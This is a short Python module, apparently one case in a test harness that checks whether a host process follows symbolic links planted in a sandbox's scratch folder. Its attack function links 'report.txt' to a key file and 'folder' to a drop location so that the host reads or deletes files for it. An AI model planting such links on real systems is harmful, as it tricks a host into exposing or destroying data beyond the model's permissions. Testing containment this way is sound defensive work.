"""Leave symbolic links in its folder for the host to follow."""

from __future__ import annotations

import os
from typing import Any

EVIDENCE = "followed"
STOPPED_BY = "host"
MEANS = "the host reads or deletes a file of yours for it"


def attack(at: Any) -> None:
    os.symlink(at.key, at.scratch + "/report.txt")
    os.symlink(at.drop, at.scratch + "/folder")
